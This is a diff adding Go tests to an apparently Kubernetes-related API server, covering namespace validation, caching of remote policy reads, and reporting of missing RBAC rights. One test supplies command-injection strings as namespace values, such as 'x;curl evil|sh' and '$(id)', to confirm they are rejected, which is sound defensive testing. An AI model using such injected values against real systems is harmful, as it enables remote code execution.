@@ -4,14 +4,19 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"net/url"
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/meta"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	policyv1alpha1 "github.com/argosy-io/argosy/api/policy/v1alpha1"
+	workv1alpha2 "github.com/argosy-io/argosy/api/work/v1alpha2"
 )
 
 // A user of one namespace sees its policies, and which rights show the others.
@@ -86,6 +91,72 @@ func TestUnclaimedWorkloadsAreThoseWithoutAPolicy(t *testing.T) {
 	}
 	if w := a.request(t, alice, "GET", unclaimedPath+"?kind=Other.example.com", ""); w.Code != http.StatusNotFound {
 		t.Errorf("an unknown kind gave %d %s", w.Code, w.Body)
+	}
+}
+
+// A namespace of an address that is no name does not come into a command.
+func TestUnclaimedNeedsANameOfANamespace(t *testing.T) {
+	a, _ := changing(t, grants{}, "", deployment())
+	for _, namespace := range []string{"x;curl evil|sh", "$(id)", "-A", "a b", "a/b", "`id`", "Shop"} {
+		w := a.request(t, alice, "GET", unclaimedPath+"?kind=Deployment.apps&namespace="+url.QueryEscape(namespace), "")
+		if w.Code != http.StatusBadRequest || strings.Contains(w.Body.String(), "kubectl") {
+			t.Errorf("%q gave %d %s", namespace, w.Code, w.Body)
+		}
+	}
+}
+
+// On a replica without controllers, all users share one read of the policies.
+func TestPoliciesOfARemoteHubAreReadOnce(t *testing.T) {
+	a := newTestAPI(t, grants{})
+	hub, now := newFakeCache(), time.Now()
+	a.rows.o.Cached, a.rows.remote = func() Cache { return nil }, hub
+	a.rows.now = func() time.Time { return now }
+	for range 5 {
+		a.request(t, alice, "GET", policiesPath, "")
+	}
+	if hub.lists != 4 {
+		t.Errorf("5 pages read %d lists, want one of each kind", hub.lists)
+	}
+	now = now.Add(freshRemote)
+	a.request(t, alice, "GET", policiesPath, "")
+	if hub.lists != 8 {
+		t.Errorf("a later page reads %d lists more", hub.lists-4)
+	}
+}
+
+// The rights of workloads without a namespace are others, and no right is named that the user has.
+func TestMissingRightsAreNotThoseThatTheUserHas(t *testing.T) {
+	cluster := &workv1alpha2.ClusterResourceBinding{ObjectMeta: metav1.ObjectMeta{Name: "shop-namespace"}}
+	cluster.Spec.Resource = workv1alpha2.ObjectReference{APIVersion: "v1", Kind: "Namespace", Name: "shop"}
+	web := binding("Deployment", "shop", "web", "c1")
+	for name, c := range map[string]struct {
+		grants  grants
+		objects []client.Object
+		want    string
+	}{
+		"cluster-scoped, the kind": {grants{"list clusterresourcebindings *": true, "list resourcebindings *": true},
+			[]client.Object{cluster}, "namespaces"},
+		"cluster-scoped, the binding": {grants{"list namespaces *": true, "list resourcebindings *": true},
+			[]client.Object{cluster}, "clusterresourcebindings"},
+		"namespaced, the binding": {grants{"list deployments *": true}, []client.Object{web}, "resourcebindings"},
+		"namespaced, the kind":    {grants{"list resourcebindings *": true}, []client.Object{web}, "deployments"},
+		"both": {grants{"list resourcebindings *": true, "list namespaces *": true}, []client.Object{cluster, web},
+			"clusterresourcebindings, deployments"},
+	} {
+		a := newTestAPI(t, c.grants, c.objects...)
+		mapper := a.kinds.known.(*meta.DefaultRESTMapper)
+		mapper.Add(corev1.SchemeGroupVersion.WithKind("Namespace"), meta.RESTScopeRoot)
+		s, err := a.rows.current(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, m := range topics["workloads"](a, t.Context(), alice, s).missing {
+			got = append(got, m.Resource)
+		}
+		if slices.Sort(got); strings.Join(got, ", ") != c.want {
+			t.Errorf("%s: the user lacks %q, want %s", name, got, c.want)
+		}
 	}
 }
 
